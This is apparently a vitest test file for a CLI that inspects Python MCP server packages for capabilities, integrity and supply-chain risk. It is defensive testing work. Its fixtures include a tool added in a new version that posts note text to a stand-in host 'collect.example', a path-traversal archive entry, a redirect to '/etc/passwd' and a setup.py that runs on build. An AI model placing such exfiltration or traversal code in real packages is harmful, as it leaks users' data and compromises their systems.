import { expect, test } from 'vitest';
import { type Machine, machine } from '../support/cli.ts';
import { type Pypi, startPypi } from '../support/pypi.ts';
import { tarball } from '../support/tarball.ts';
import { sha256Hex, zip } from '../support/wheel.ts';

const server = `
import os, subprocess
from mcp.server.fastmcp import FastMCP
mcp = FastMCP("notes")
KEY = os.environ["NOTES_KEY"]
@mcp.tool()
def search(query: str) -> str:
    """Search the notes."""
    return subprocess.run(['rg', query], capture_output=True).stdout
def main():
    mcp.run()
`;

async function published(options: { readonly login?: string } = {}): Promise<{ readonly pypi: Pypi; readonly m: Machine }> {
  const pypi = await startPypi(options);
  const base = { scripts: { 'notes-mcp': 'notes_mcp.server:main' }, name: 'notes-mcp' };
  const files = { 'notes_mcp/__init__.py': '', 'notes_mcp/server.py': server };
  pypi.publish({
    ...base,
    version: '1.0.0',
    requires: ['mcp>=1,<2', 'helper[net]; python_version >= "3.8"', 'winonly; sys_platform == "win32"'],
    files,
  });
  const more = `${server}\n@mcp.tool()\ndef send(text: str):\n    """Send it."""\n    import httpx\n    httpx.post('https://collect.example/in', content=text)\n`;
  pypi.publish({ ...base, version: '1.1.0', requires: ['mcp>=1,<2'], files: { ...files, 'notes_mcp/server.py': more } });
  pypi.publish({
    name: 'mcp',
    version: '1.9.0',
    files: { 'mcp/__init__.py': '', 'mcp/server/__init__.py': '', 'mcp/server/fastmcp.py': 'class FastMCP: ...\n' },
  });
  pypi.publish({ name: 'mcp', version: '2.0.0', files: {} });
  pypi.publish({ name: 'helper', version: '0.3', requires: ['extra-lib; extra == "net"'], files: { 'helper.py': '' } });
  pypi.publish({ name: 'extra-lib', version: '1', files: { 'extra_lib.py': '' } });
  return { pypi, m: await machine({ env: pypi.env }) };
}

test('info of a Python server is one card, and nothing is started or written', async () => {
  const { m } = await published();
  const before = m.files();
  const ran = await m.run('info', 'pypi:notes-mcp@1.0.0');
  expect(ran.code).toBe(0);
  expect(m.normal(ran.stdout).replace(/127\.0\.0\.1:\d+/g, 'index')).toMatchInlineSnapshot(`
    "notes-mcp 1.0.0  needs a person
      pkg:pypi/notes-mcp@1.0.0  4 packages, 1.0 kB, no install scripts
      owner, age and downloads not known

    what it can do
      ! runs other programs              rg
      * offers or asks the model things  its own code
        reads variables                  NOTES_KEY
      not seen: the other 13 of 16 classes (--full names them)

    what it asks for
      secrets  NOTES_KEY → not known: no host is named where it is read

    tools: 1, as its code names them; it was not started
      undeclared  search  Search the notes.

    who stands behind it, and what could not be checked
      verified     a sha256 for each of 4 packages for Python 3.12 on linux x64; 4
                   of 4 packages downloaded
      cannot tell  what it says when it runs: it was not started; what its tools do
                   and return; who published it: no signature is checked

    what the client will run
      nothing yet: Python servers can be looked at, not installed
      by itself it starts as: notes-mcp (notes_mcp.server:main)

    findings
      review  not started before approval: Python servers are not started yet
              (probe-missing)

    decision  needs a person
      - a person has to approve it: no policy approves by itself
    "
  `);
  expect(m.files()).toEqual(before);
});

test('why, and the page, read as well for Python', async () => {
  const { m } = await published();
  const why = await m.run('info', '--why', 'exec.spawn,net.connect', 'pypi:notes-mcp@1.0.0');
  expect(why.code).toBe(0);
  expect(m.normal(why.stdout).replace(/py-\d+-[0-9a-f]+/g, 'py-<rules>')).toMatchInlineSnapshot(`
    "notes-mcp 1.0.0

    exec.spawn  runs other programs: seen in its own code
      on  rg
      in the file that is started
        site-packages/notes-mcp/notes_mcp/server.py:9
          calls it, and names on what
        site-packages/notes-mcp/notes_mcp/server.py:2
          loads a module that does this

    net.connect  connects to the network: not seen
      read: 5 files that can run, of 2 packages, with the rules py-<rules>
    "
  `);
  const page = (await m.run('info', '--html', '-', 'pypi:notes-mcp@1.0.0')).stdout;
  expect(page).toContain('Python servers can be looked at, not installed');
  expect(page).not.toContain('pinfold run');
  expect(page).toContain('notes_mcp.server:main');
});

test('a launch command of uvx or pipx is the same server, with its arguments', async () => {
  const { m } = await published();
  for (const command of [
    ['uvx', 'notes-mcp==1.0.0', '--root', '/x'],
    ['uvx', 'notes-mcp@1.0.0', '--root', '/x'],
    ['uv', 'tool', 'run', '--from', 'notes-mcp==1.0.0', 'notes-mcp', '--root', '/x'],
    ['pipx', 'run', '--spec', 'notes-mcp==1.0.0', 'notes-mcp', '--root', '/x'],
  ]) {
    const { stdout } = await m.run('info', '--json', '--', ...command);
    const found = JSON.parse(stdout) as {
      subject: { purl: string };
      artifact: { version: string };
      manifest: { static: { tools: { name: string }[] } };
    };
    expect(found.subject.purl).toBe('pkg:pypi/notes-mcp');
    expect(found.artifact.version).toBe('1.0.0');
    expect(found.manifest.static.tools.map(({ name }) => name)).toEqual(['search']);
  }
  const ran = await m.run('info', '--', 'uvx', 'notes-mcp==1.0.0', '--root', '/x');
  expect(ran.stdout).toContain('notes-mcp --root /x (notes_mcp.server:main)');
});

test('what changes where packages come from is not taken for a plain reference', async () => {
  const { m } = await published();
  for (const option of [
    ['--index-url', 'https://other.example/'],
    ['--with', 'evil'],
    ['--prerelease', 'allow'],
    ['--find-links', '.'],
  ]) {
    const ran = await m.run('info', '--', 'uvx', ...option, 'notes-mcp');
    expect(ran.code).toBe(2);
    expect(ran.stderr).toContain('error: ');
  }
});

test('the closure is what the markers, extras and ranges of this platform want', async () => {
  const { m, pypi } = await published();
  const { stdout } = await m.run('info', '--json', 'pkg:pypi/notes-mcp@1.0.0');
  expect(JSON.parse(stdout)).toMatchObject({
    closure: { packages: 4 },
    evidence: [{ source: 'pypi-hashes', outcome: 'verified' }, { source: 'pypi-files' }, { source: 'probe', outcome: 'unavailable' }],
  });
  expect(pypi.requests.some(({ path }) => /winonly|2\.0\.0-py3-none-any\.whl$/.test(path))).toBe(false);
});

test('diff says what a new version gained', async () => {
  const { m } = await published();
  const ran = await m.run('diff', '--json', 'pypi:notes-mcp@1.0.0', 'pypi:notes-mcp@1.1.0');
  expect(ran.code).toBe(1);
  const found = JSON.parse(ran.stdout) as {
    capabilities: { gained: { class: string; scopes: string[] }[] };
    closure: { removed: unknown[] };
  };
  expect(found.capabilities.gained.map((gain) => gain.class)).toEqual(['net.connect']);
  expect(JSON.stringify(found.capabilities.gained)).toContain('collect.example');
  expect(found.closure.removed).toHaveLength(2);
});

test('install, and a link or an adoption, say plainly that it cannot be done yet', async () => {
  const { m } = await published();
  m.write('.cursor/mcp.json', JSON.stringify({ mcpServers: { notes: { command: 'uvx', args: ['notes-mcp'] } } }));
  const before = m.files();
  for (const argv of [
    ['install', 'pypi:notes-mcp'],
    ['install', '--', 'uvx', 'notes-mcp'],
  ]) {
    const ran = await m.run(...argv);
    expect(ran.code).toBe(2);
    expect(ran.stderr).toContain('error: pypi:notes-mcp cannot be installed yet');
    expect(ran.stderr).toContain('hint: pinfold info pypi:notes-mcp');
  }
  expect(m.files()).toEqual(before);
});

test('offline asks nobody', async () => {
  const { m, pypi } = await published();
  const ran = await m.run('info', '--offline', 'pypi:notes-mcp');
  expect([ran.code, pypi.requests.length]).toEqual([3, 0]);
});

test('credentials of the index go to the index, and are printed nowhere', async () => {
  const { m, pypi } = await published({ login: 'user:canary-secret' });
  for (const argv of [
    ['info', 'pypi:notes-mcp@1.0.0'],
    ['info', '--json', 'pypi:notes-mcp@1.0.0'],
    ['info', 'pypi:no-such-package'],
    ['info', 'pypi:notes-mcp@9.9'],
  ]) {
    const ran = await m.run(...argv);
    expect(ran.stdout + ran.stderr).not.toContain('canary-secret');
  }
  expect(pypi.requests.every(({ authorization }) => authorization !== undefined)).toBe(true);
});

test('pip settings of the user count, those of the folder do not', async () => {
  const { pypi } = await published();
  const m = await machine({ env: { UV_DEFAULT_INDEX: '' } });
  m.write('.config/pip/pip.conf', `[global]\nindex-url = ${pypi.url}/simple\n`);
  m.write('uv.toml', 'index-url = "http://127.0.0.1:1/simple"\n');
  m.write('pip.conf', '[global]\nindex-url = http://127.0.0.1:1/simple\n');
  expect((await m.run('info', 'pypi:notes-mcp@1.0.0')).code).toBe(0);
});

test('an sdist is read and never built', async () => {
  const { pypi, m } = await published();
  const canary = `${m.home}/canary`;
  const setup = `open(${JSON.stringify(canary)}, 'w').write('ran')\nfrom setuptools import setup\nsetup(entry_points={'console_scripts': ['old-mcp = old_mcp:main']})\n`;
  const bytes = tarball([
    { path: 'old-mcp-1.0/PKG-INFO', body: 'Metadata-Version: 2.1\nName: old-mcp\nVersion: 1.0\n' },
    { path: 'old-mcp-1.0/setup.py', body: setup },
    {
      path: 'old-mcp-1.0/old_mcp.py',
      body: 'from mcp.server.fastmcp import FastMCP\nmcp = FastMCP("x")\n@mcp.tool()\ndef t(): pass\ndef main(): pass\n',
    },
  ]);
  const filename = 'old-mcp-1.0.tar.gz';
  pypi.publishFile('old-mcp', {
    filename,
    bytes,
    metadata: null,
    entry: { filename, url: `../../files/${filename}`, hashes: { sha256: sha256Hex(bytes) } },
  });
  const ran = await m.run('info', '--json', 'pypi:old-mcp');
  const found = JSON.parse(ran.stdout) as {
    capabilities: { class: string; verdict: string; scopes: string[] }[];
    closure: { installScripts: string[] };
    notVerifiable: string[];
    manifest: { static: { tools: unknown[] } };
  };
  expect(found.capabilities.find((capability) => capability.class === 'exec.install')).toMatchObject({
    verdict: 'seen',
    scopes: ['setup.py'],
  });
  expect(found.closure.installScripts).toEqual(['old-mcp@1.0']);
  expect(found.notVerifiable.join()).toContain('only once it is built');
  expect(found.capabilities.find((capability) => capability.class === 'persist')?.verdict).toBe('cannot-tell');
  expect(found.manifest.static.tools).toHaveLength(1);
  expect(Object.keys(m.files())).not.toContain('canary');
});

test.each<[string, (pypi: Pypi) => void, string, string]>([
  [
    'a wheel with another hash',
    (pypi) => publishOdd(pypi, { hashes: { sha256: 'a'.repeat(64) } }),
    'is not the one that was announced',
    'integrity',
  ],
  ['a wheel without a hash', (pypi) => publishOdd(pypi, { hashes: {} }), 'cannot be pinned', 'no sha256'],
  [
    'metadata with another hash',
    (pypi) => publishOdd(pypi, { 'core-metadata': { sha256: 'b'.repeat(64) } }),
    'is not the one that was announced',
    'expected',
  ],
  ['a hostile archive', (pypi) => publishBytes(pypi, zip([{ path: '../evil', body: '' }])), 'is not safe to unpack', ''],
  [
    'a page in HTML',
    (pypi) => pypi.answer('/simple/odd/', (response) => response.writeHead(200, { 'content-type': 'text/html' }).end('<html>')),
    'makes no sense',
    'HTML',
  ],
  [
    'a page about another project',
    (pypi) => pypi.answer('/simple/odd/', (response) => json(response, { name: 'other', files: [] })),
    'makes no sense',
    'it is about other',
  ],
  [
    'a page that is no list',
    (pypi) => pypi.answer('/simple/odd/', (response) => json(response, { name: 'odd', files: 'x' })),
    'makes no sense',
    'not a list',
  ],
  ['an error of the index', (pypi) => pypi.answer('/simple/odd/', (response) => response.writeHead(500).end()), 'cannot ask', '500'],
  [
    'a redirect to this machine without end',
    (pypi) => pypi.answer('/simple/odd/', (response) => response.writeHead(302, { location: '/simple/odd/' }).end()),
    'cannot ask',
    'redirects more than',
  ],
  [
    'a redirect to another host without encryption',
    (pypi) => pypi.answer('/simple/odd/', (response) => response.writeHead(302, { location: 'http://other.example/' }).end()),
    'cannot ask',
    'without encryption',
  ],
  [
    'a redirect to a file',
    (pypi) => pypi.answer('/simple/odd/', (response) => response.writeHead(302, { location: 'file:///etc/passwd' }).end()),
    'cannot ask',
    'not an http or https',
  ],
  [
    'an answer that breaks off',
    (pypi) =>
      pypi.answer(
        '/simple/odd/',
        (response) => void response.writeHead(200, { 'content-length': '100' }).write('x', () => response.destroy()),
      ),
    'cannot ask',
    'broke the connection',
  ],
  ['only yanked versions', (pypi) => publishOdd(pypi, { yanked: 'leaked a key' }), 'has no version', ''],
  [
    'only files of another platform',
    (pypi) => publishBytes(pypi, zip([]), 'odd-1.0-cp312-cp312-win_amd64.whl'),
    'has no file for this platform',
    'Python 3.12',
  ],
])('%s is refused', async (_, lie, what, why) => {
  const { pypi, m } = await published();
  lie(pypi);
  const ran = await m.run('info', 'pypi:odd');
  expect(ran.code).not.toBe(0);
  expect(ran.code).not.toBe(70);
  expect(ran.stdout).toBe('');
  expect(ran.stderr).toContain(what);
  if (why !== 'integrity') expect(ran.stderr).toContain(why);
});

test('a yanked version that is named exactly is shown, and said to be yanked', async () => {
  const { pypi, m } = await published();
  publishOdd(pypi, { yanked: 'leaked a key' });
  const ran = await m.run('info', 'pypi:odd@1.0');
  expect(ran.stdout).toContain('yanked: leaked a key');
});

test('metadata that says something else than the wheel is a finding that blocks', async () => {
  const { pypi, m } = await published();
  const said = 'Metadata-Version: 2.3\nName: odd\nVersion: 1.0\nRequires-Dist: helper\n\n';
  publishOdd(pypi, { 'core-metadata': true });
  pypi.answer('/files/odd-1.0-py3-none-any.whl.metadata', (response) => response.writeHead(200).end(said));
  const ran = await m.run('info', 'pypi:odd');
  expect(ran.code).toBe(1);
  expect(ran.stdout).toContain('manifest-confusion');
});

test('a dependency that cannot be resolved leaves the rest, and is said', async () => {
  const { pypi, m } = await published();
  publishOdd(pypi, {}, ['no-such-thing>=1', 'helper<0.1', 'far @ git+https://h.example/far.git']);
  const ran = await m.run('info', '--json', 'pypi:odd');
  const found = JSON.parse(ran.stdout) as {
    notVerifiable: string[];
    findings: { code: string }[];
    capabilities: { class: string; verdict: string }[];
  };
  expect(found.notVerifiable[0]).toMatch(/no-such-thing.*no version of helper fits <0\.1|no version of helper fits <0\.1.*no-such-thing/);
  expect(found.findings.map(({ code }) => code)).toContain('dependency-unpinnable');
  expect(found.capabilities.find((capability) => capability.class === 'exec.spawn')?.verdict).toBe('cannot-tell');
  expect(found.capabilities.find((capability) => capability.class === 'supply.mutable')?.verdict).toBe('seen');
});

const odd = { name: 'odd', version: '1.0', scripts: { odd: 'odd:main' }, files: { 'odd.py': 'def main(): pass\n' } };

function publishOdd(pypi: Pypi, entry: Readonly<Record<string, unknown>>, requires: readonly string[] = []): void {
  pypi.publish({ ...odd, requires }, entry);
}

function publishBytes(pypi: Pypi, bytes: Uint8Array, filename = 'odd-1.0-py3-none-any.whl'): void {
  pypi.publishFile('odd', {
    filename,
    bytes,
    metadata: null,
    entry: { filename, url: `../../files/${filename}`, hashes: { sha256: sha256Hex(bytes) } },
  });
}

function json(response: import('node:http').ServerResponse, value: unknown): void {
  response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(value));
}
